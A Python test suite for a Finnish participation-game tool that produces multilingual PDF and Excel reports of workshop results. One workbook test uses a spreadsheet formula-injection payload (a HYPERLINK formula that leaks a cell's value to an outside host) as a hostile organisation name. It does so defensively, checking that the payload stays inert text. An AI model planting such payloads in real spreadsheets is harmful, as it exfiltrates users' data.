"""The report a manager reads, from a season made by hand: numbers per card,
column, unit and period; the words of every language; charts of any deck
size; fonts embedded; the same bytes for the same season."""

from __future__ import annotations

import datetime as dt
import io
import time
import zipfile

import openpyxl
import pytest

from osallisuuspeli.draw.hyphenate import marked
from osallisuuspeli.load import load_deck, strings
from osallisuuspeli.model import plain
from osallisuuspeli.results import report
from osallisuuspeli.results.chart import ThemeChart, wrap
from osallisuuspeli.results.counts import Count, Group, agreed, by_period, by_unit, card_counts, top
from osallisuuspeli.results.report import LABELS, action_rows, report_pdf, report_xlsx, summary_lines
from osallisuuspeli.results.season import workshop_names
from osallisuuspeli.results.words import counted, day, period_name

from .pdfcheck import fonts_of, squeeze, text_of
from .workshops import Action, Season, Skipped, deck_texts, synthetic_texts, workshop

TEXTS = deck_texts()
ALL = TEXTS.cards


def act(goal: str, **kw) -> Action:
    return Action(goal=goal, **kw)


def helsinki_season(language: str = "fi") -> Season:
    """Five teams and a sixth sheet with nothing but its details, in date order.
    Kokeilut (7) worth trying in three, done well in two, kept by four;
    Palvelumuotoilu (2) done well in all five; Asiakasraati (3) tried by W1 and
    dropped by it. The units: 'Kasvatus' twice (typed two ways), Kulttuuri,
    Liikenne, and one without a unit. W3 came from a kit without Havainnointi (8)."""
    teams = [
        ("Kasvatus", "2026-09-02", 7, "worth_trying", 2),
        ("Kulttuuri", "2026-09-15", 5, "worth_trying", 2),
        ("  KASVATUS ", "2026-10-04", 8, "worth_trying", 1),
        ("Liikenne", "2026-11-05", 6, "done_well", 1),
        ("", "2026-11-06", None, "done_well", 0),
    ]
    ws = []
    for i, (org, date, people, kokeilut, actions) in enumerate(teams):
        placed = (("palvelumuotoilu", "done_well"), ("kokeilut", kokeilut)) + ((("asiakasraati", "tried"),) if i == 0 else ())
        tokens = ((("kokeilut", "keep"),) if i < 4 else ()) + ((("asiakasraati", "drop"),) if i == 0 else ())
        rows = tuple(
            act(f"Tavoite {i}.{n}", method=f"M{n}", responsible=f"Vastaava {i}.{n}", timetable="kevät 2027") for n in range(actions)
        )
        cards = tuple(c for c in ALL if c != "havainnointi") if i == 2 else ALL
        ws.append(
            workshop(
                cards,
                date=date,
                organisation=org.strip(),
                participants=people,
                placed=placed,
                tokens=tokens,
                actions=rows,
                files=(f"tiimi{i + 1}.pdf",),
                language="sv" if i == 1 else "fi",
            )
        )
    ws.append(workshop(ALL, organisation="Liikenne", leader="Pia", files=("tyhja.pdf",)))
    return Season(tuple(ws), (Skipped("rikki.pdf", "not a PDF file; skipped"),), TEXTS, language, 7)


def test_counts_per_card_and_column():
    tally = card_counts(helsinki_season().workshops, ALL)
    assert tally["kokeilut"] == Count(done_well=2, tried=0, worth_trying=3, keep=4, drop=0, in_play=6)
    assert tally["palvelumuotoilu"] == Count(5, 0, 0, 0, 0, 6)
    assert tally["asiakasraati"] == Count(0, 1, 0, 0, 1, 6)
    assert tally["havainnointi"] == Count(0, 0, 0, 0, 0, 5)  # not in W3's kit
    assert list(tally) == list(ALL)
    best = top(tally, "done_well", TEXTS)
    assert best == [("palvelumuotoilu", 5), ("kokeilut", 2)]


def test_units_are_compared_without_case_and_shown_as_first_typed():
    units = by_unit(helsinki_season().workshops)
    assert units == [
        Group("kasvatus", "Kasvatus", 2, 15, 2, 3),
        Group("kulttuuri", "Kulttuuri", 1, 5, 1, 2),
        Group("liikenne", "Liikenne", 2, 6, 0, 1),
        Group("", "", 1, 0, 0, 0),
    ]


def test_the_trend_is_by_month_in_a_short_season_and_by_quarter_in_a_long_one():
    ws = helsinki_season().workshops
    kind, rows = by_period(ws)
    assert kind == "month"
    assert [(g.key, g.workshops, g.participants, g.worth_trying, g.actions) for g in rows] == [
        ("2026-09", 2, 12, 2, 4),
        ("2026-10", 1, 8, 1, 1),
        ("2026-11", 2, 6, 0, 1),
        ("", 1, 0, 0, 0),
    ]
    long = ws + (workshop(ALL, date="2027-06-30", placed=(("kokeilut", "worth_trying"),)),)
    kind, rows = by_period(long)
    assert kind == "quarter"
    assert [(g.key, g.workshops, g.worth_trying) for g in rows] == [
        ("2026-Q3", 2, 2),
        ("2026-Q4", 3, 1),
        ("2027-Q1", 0, 0),  # a quarter without workshops is shown as such
        ("2027-Q2", 1, 1),
        ("", 1, 0),
    ]
    s = strings("fi")
    assert [period_name(s, k) for k in ("2026-Q4", "2026-11", "")] == ["4. neljännes 2026", "marraskuu 2026", "Ei päivämäärää"]
    assert [period_name(strings("sv"), k) for k in ("2026-Q4", "2026-11")] == ["kvartal 4 2026", "november 2026"]
    assert [period_name(strings("en"), k) for k in ("2026-Q4", "2026-11")] == ["Q4 2026", "November 2026"]


@pytest.mark.parametrize(
    "language,one,five",
    [
        (
            "fi",
            ["1 työpaja, 1 osallistuja, 1 organisaatio tai yksikkö", "Päivämäärä: 2.12.2026", "Organisaatiot ja yksiköt: Sote"],
            [
                "5 työpajaa, 5 osallistujaa, 5 organisaatiota tai yksikköä",
                "Ajanjakso: 2.12.2026–5.12.2026; 1 työpaja ilman päivämäärää",
                "Organisaatiot ja yksiköt: Sote 1, Sote 2, Sote 3, Sote 4, Sote 5",
                "5 annettua tiedostoa jäi laskuista pois.",
            ],
        ),
        (
            "sv",
            ["1 workshop, 1 deltagare, 1 organisation eller enhet", "Datum: 2.12.2026", "Organisationer och enheter: Sote"],
            [
                "5 workshoppar, 5 deltagare, 5 organisationer eller enheter",
                "Period: 2.12.2026–5.12.2026; 1 workshop utan datum",
                "Organisationer och enheter: Sote 1, Sote 2, Sote 3, Sote 4, Sote 5",
                "5 filer räknades inte med.",
            ],
        ),
        (
            "en",
            ["1 workshop, 1 participant, 1 organisation or unit", "Date: 2 December 2026", "Organisations and units: Sote"],
            [
                "5 workshops, 5 participants, 5 organisations or units",
                "Period: 2 December 2026 to 5 December 2026; 1 workshop without a date",
                "Organisations and units: Sote 1, Sote 2, Sote 3, Sote 4, Sote 5",
                "5 files given were not counted.",
            ],
        ),
    ],
)
def test_the_summary_says_one_and_many_as_the_language_does(language, one, five, tmp_path):
    s = strings(language)
    single = Season((workshop(ALL, date="2026-12-02", organisation="Sote", participants=1),), (), TEXTS, language, 1)
    assert summary_lines(single, s) == one
    many = tuple(workshop(ALL, date=f"2026-12-0{i + 2}", organisation=f"Sote {i + 1}", participants=1) for i in range(4))
    many += (workshop(ALL, organisation="Sote 5", participants=1),)
    skipped = tuple(Skipped(f"{i}.pdf", "nothing is filled in; skipped") for i in range(5))
    season = Season(many, skipped, TEXTS, language, 10)
    assert summary_lines(season, s) == five
    (tmp_path / "r.pdf").write_bytes(report_pdf(season))
    text = squeeze(text_of(tmp_path / "r.pdf"))
    assert all(squeeze(line) in text for line in five)
    assert (
        counted(s, "report_skipped", 1)
        == {"fi": "1 annettu tiedosto jäi laskuista pois.", "sv": "1 fil räknades inte med.", "en": "1 file given was not counted."}[
            language
        ]
    )


def test_dates_are_written_as_the_language_writes_them():
    assert day(strings("fi"), "2026-12-02") == "2.12.2026"
    assert day(strings("sv"), "2026-01-31") == "31.1.2026"
    assert day(strings("en"), "2026-12-02") == "2 December 2026"


@pytest.mark.parametrize("language,other", [("en", "fi"), ("sv", "fi"), ("fi", "en")])
def test_a_report_has_only_its_own_languages_card_titles(language, other, tmp_path):
    """An English report names no card by its Finnish title, though most sheets were Finnish (and one Swedish)."""
    (tmp_path / "r.pdf").write_bytes(report_pdf(helsinki_season(language)))
    text = squeeze(text_of(tmp_path / "r.pdf"))
    own, foreign = load_deck("helsinki", language), load_deck("helsinki", other)
    differing = [(plain(a.title), plain(b.title)) for a, b in zip(own.cards, foreign.cards) if plain(a.title) != plain(b.title)]
    assert len(differing) > 40
    leaked = [b for a, b in differing if squeeze(b) in text and squeeze(b) not in squeeze(a)]
    assert leaked == []
    kokeilut = {"fi": "Kokeilut", "sv": "Försök", "en": "Experiments"}[language]
    theirs = {c.id: plain(c.title) for c in own.cards}
    assert theirs["kokeilut"] == kokeilut and squeeze(f"7 {kokeilut}") in text
    column = own.board.columns[2]
    assert squeeze(strings(language)["report_most"].format(column=column)) in text


def test_each_workshops_page_speaks_the_reports_language_and_shows_all_a_team_wrote(tmp_path):
    s = strings("fi")
    board = workshop(
        ALL,
        language="sv",  # a Swedish sheet in a Finnish report
        date="2026-12-02",
        organisation="Nuorisopalvelut",
        placed=(("kokeilut", "worth_trying"),),
        unplaced=(("worth_trying", "Mopokerho"),),
        notes=(("step1.notes", "Nuorisotalojen illat"), ("step6.notes", "Lisää aikaa. " * 900)),  # a note of three pages
        actions=(act("Laudalta", method="Kokeilut", implementation="Nuorisotoimi syksyllä 2027"),),
    )
    empty = workshop(ALL, date="2026-12-03", organisation="Sote", leader="Pia")
    season = Season((board, empty), (), TEXTS, "fi", 2)
    (tmp_path / "r.pdf").write_bytes(report_pdf(season))
    text = squeeze(text_of(tmp_path / "r.pdf"))
    for words in (
        "Työpaja W1 · Nuorisopalvelut · 2.12.2026",
        "Kannattaa kokeilla7 Kokeilut",
        f"{s['report_unplaced']}: Mopokerho",
        "Askel 1Nuorisotalojen illatAskel 6Lisää aikaa. Lisää aikaa.",
        "Työpaja W2 · Sote · 3.12.2026",
        s["report_thin"],
    ):
        assert squeeze(words) in text, words
    assert squeeze("Värt att pröva") not in text and squeeze("Försök") not in text
    assert text.count(squeeze(s["report_thin"])) == 1  # W1 is not thin
    assert text.count(squeeze("Lisää aikaa.")) == 900
    assert workshop_names(season.workshops) == ["W1", "W2"]


def test_a_boards_implementation_has_a_column_of_its_own():
    s = strings("fi")
    sheet = workshop(ALL, organisation="Sote", actions=(act("Raati", responsible="Liisa", timetable="2027"),))
    board = workshop(ALL, organisation="Nuoriso", actions=(act("Laudalta", method="Kokeilut", implementation="Syksyllä 2027"),))
    head, rows = action_rows(agreed([sheet, board]), s)
    assert head == ["Työpaja", "Organisaatio ja yksikkö", "Tavoite", "Menetelmä", "Kuka vastaa", "Aikataulu", "Toteutus"]
    assert rows == [
        ["W1", "Sote", "Raati", "", "Liisa", "2027", ""],
        ["W2", "Nuoriso", "Laudalta", "Kokeilut", "", "", "Syksyllä 2027"],
    ]
    head, rows = action_rows(agreed([sheet]), s)
    assert "Toteutus" not in head


def test_chart_labels_are_whole_titles_wrapped_never_cut(decks):
    for lang in ("fi", "sv", "en"):
        for card in decks["helsinki", lang].cards:
            label = f"{card.number} {plain(card.title)}"
            lines = wrap(label, LABELS, lang)
            assert all("…" not in line for line in lines)
            assert squeeze("".join(lines)) == squeeze(label)
            assert 1 <= len(lines) <= 3
            assert all(report.fonts.width(line, report.fonts.REGULAR, 7.5) <= LABELS for line in lines)
    lines = wrap("6 Tiedon koostaminen asiakirjoista, rekistereistä tai tilastoista", 90, "fi")
    assert lines == ["6 Tiedon koostaminen", "asiakirjoista, rekistereistä tai", "tilastoista"]
    word = "Vanhempainyhdistysten"
    lines = wrap(word, 40, "fi")  # longer than a line: broken where the language allows, with a hyphen
    assert "".join(line.rstrip("-") for line in lines) == word
    assert all(line.endswith("-") for line in lines[:-1])
    offsets = {p for p, _ in marked(word, "fi")}
    assert len(lines[0]) - 1 in offsets


@pytest.mark.parametrize("cards,themes", [(40, 4), (66, 6), (120, 8), (300, 10), (60, 0), (66, 1)])
def test_a_chart_splits_over_pages_at_any_deck_size(cards, themes, tmp_path):
    """A deck without themes of about 60 cards once stopped the report ("LayoutError: Flowable <Drawing …> too large")."""
    texts = synthetic_texts(cards, themes)
    ws = tuple(
        workshop(
            texts.cards, deck="iso", date=f"2026-10-{i + 1:02d}", placed=((texts.cards[-1], "worth_trying"), (texts.cards[0], "tried"))
        )
        for i in range(3)
    )
    (tmp_path / "r.pdf").write_bytes(report_pdf(Season(ws, (), texts, "en", 3)))
    text = text_of(tmp_path / "r.pdf")
    flat = squeeze(text)
    for i in range(1, cards + 1):
        assert squeeze(f"{i} Co-development workshop of parents' associations and residents' panels number {i}") in flat, i
    assert "…" not in text and "Vanhempain" not in text
    assert f"{themes} Theme t{themes}" in text if themes else "Big deck" in text
    if cards >= 120:
        assert "(continued)" in text


def test_the_report_says_in_how_many_workshops_a_card_was_in_play_when_versions_differ(tmp_path):
    s = strings("en")
    (tmp_path / "r.pdf").write_bytes(report_pdf(helsinki_season("en")))
    assert squeeze(s["report_in_play_note"]) in squeeze(text_of(tmp_path / "r.pdf"))
    same = helsinki_season("en")._replace(workshops=tuple(w._replace(cards=ALL) for w in helsinki_season().workshops))
    (tmp_path / "same.pdf").write_bytes(report_pdf(same))
    assert squeeze(s["report_in_play_note"]) not in squeeze(text_of(tmp_path / "same.pdf"))
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(helsinki_season("en"))))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0][-1] == "In play in workshops"
    assert rows[8] == (8, "Observation", "User participation in service development", 0, 0, 0, 0, 0, 5)


def test_every_font_is_embedded(tmp_path):
    (tmp_path / "r.pdf").write_bytes(report_pdf(helsinki_season("sv")))
    found = fonts_of(tmp_path / "r.pdf")
    assert sorted(name.split("+")[1] for name in found) == ["SourceSansPro-Bold", "SourceSansPro-Regular"]
    assert all(found.values())  # embedded
    tags = {name.split("+")[0] for name in found}
    assert len(tags) == 2 and "/AAAAAA" not in tags  # a subset named by its program: Bold and Regular never share a name


def test_the_same_season_gives_the_same_bytes(monkeypatch):
    """openpyxl stamps the time of saving into docProps/core.xml and every zip member: both are fixed."""
    import openpyxl.writer.excel

    pdf, xlsx = report_pdf(helsinki_season()), report_xlsx(helsinki_season())
    later = time.time() + 400 * 86400

    class Later(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime.fromtimestamp(later, tz)

    monkeypatch.setattr(time, "time", lambda: later)
    monkeypatch.setattr(
        openpyxl.writer.excel, "datetime", type("m", (), {"datetime": Later, "timezone": dt.timezone}), raising=False
    )  # openpyxl 3.1.0 stamps the time elsewhere
    assert report_pdf(helsinki_season()) == pdf
    again = report_xlsx(helsinki_season())
    assert again == xlsx
    with zipfile.ZipFile(io.BytesIO(again)) as z:
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z" in z.read("docProps/core.xml")


def test_the_workbook_counts_per_card_unit_and_period_and_runs_no_formula():
    season = helsinki_season()
    hostile = workshop(ALL, organisation='=HYPERLINK("http://x?leak="&A1,"click")', date="2026-11-30", participants=2)
    spaced = workshop(ALL, organisation=" \t=1+1", date="2026-11-30")  # a leading space is no way round it
    season = season._replace(workshops=season.workshops + (hostile, spaced))
    data = report_xlsx(season)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Osallisuuspelin tulokset",
        "Yksiköittäin",
        "Kuukausittain",
        *("Työpajat", "Kortit", "Uudet keinot", "Omat menetelmät", "Muistiinpanot"),  # the tables of `results`
    ]
    cards, units, months = (list(ws.iter_rows(values_only=True)) for ws in book.worksheets[:3])
    assert cards[0] == (
        "Nro",
        "Menetelmäkortti",
        "Teema",
        "Teemme jo hyvin",
        "Olemme kokeilleet",
        "Kannattaa kokeilla",
        "Vihreä merkki",
        "Punainen merkki",
        "Mukana työpajoissa",
    )
    assert cards[7] == (7, "Kokeilut", "Käyttäjien osallisuus palveluiden kehittämisessä", 2, 0, 3, 4, 0, 8)
    assert len(cards) == 1 + len(ALL)
    assert units[1:] == [
        ("=1+1", 1, 0, 0, 0),  # shown as typed, its spacing made one
        ('=HYPERLINK("http://x?leak="&A1,"click")', 1, 2, 0, 0),
        ("Kasvatus", 2, 15, 2, 3),
        ("Kulttuuri", 1, 5, 1, 2),
        ("Liikenne", 2, 6, 0, 1),
        ("Ei yksikköä", 1, 0, 0, 0),
    ]
    assert months[1:] == [
        ("syyskuu 2026", "2026-09", 2, 12, 2, 4),
        ("lokakuu 2026", "2026-10", 1, 8, 1, 1),
        ("marraskuu 2026", "2026-11", 4, 8, 0, 1),
        ("Ei päivämäärää", None, 1, 0, 0, 0),
    ]
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert [c.quotePrefix for c in book.worksheets[1]["A"][1:4]] == [True, True, False]  # Excel keeps them text when edited
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert [n for n in z.namelist() if n.startswith("xl/charts/")] == ["xl/charts/chart1.xml"]
        assert b'<grouping val="stacked"/>' in z.read("xl/charts/chart1.xml")


def test_table_words_break_where_the_language_allows_with_a_hyphen():
    """A narrow column once showed "Osallistujamäär/ä" and "Worksh/op": a word split with no hyphen."""
    from osallisuuspeli.results.blocks import CELL, PAD, table

    rows = table(["Osallistujamäärä", "Workshop"], [["Ungdomsfullmäktige", "12"]], [16 * report.MM, 12 * report.MM], "fi", numeric=(1,))
    for cell, word in zip(rows.head + rows.rows[0], ("Osallistujamäärä", "Workshop", "Ungdomsfullmäktige", "12")):
        assert "".join(line.removesuffix("-") for line in cell.lines) == word
        assert all(line.endswith("-") for line in cell.lines[:-1])
        offsets = set()
        n = 0
        for line in cell.lines[:-1]:
            n += len(line) - 1
            offsets.add(n)
        assert offsets <= {p for p, _ in marked(word, "fi")}, cell.lines
    assert len(rows.head[0].lines) == 2 and rows.rows[0][1].right
    assert all(report.fonts.width(line, report.fonts.BOLD, CELL.size) <= 16 * report.MM - 2 * PAD for line in rows.head[0].lines)


def test_a_chart_taller_than_a_page_is_split_between_cards():
    texts = synthetic_texts(60, 0)
    rows = report.chart_rows(texts.cards, card_counts((), texts.cards), texts, "fi")
    chart = ThemeChart(["Iso pakka"], rows, report.Colour("#0072C6"), ["a", "b", "c"], 3, report.WIDTH, report.LABELS)
    _, height = chart.wrap(report.WIDTH, 700)
    assert height > 700
    first, rest = chart.split(report.WIDTH, 700)
    assert first.wrap(report.WIDTH, 700)[1] <= 700
    assert len(first.rows) + len(rest.rows) == 60 and rest.heading == ["Iso pakka"]
    assert chart.split(report.WIDTH, 30) == []  # not one card fits: all to the next page
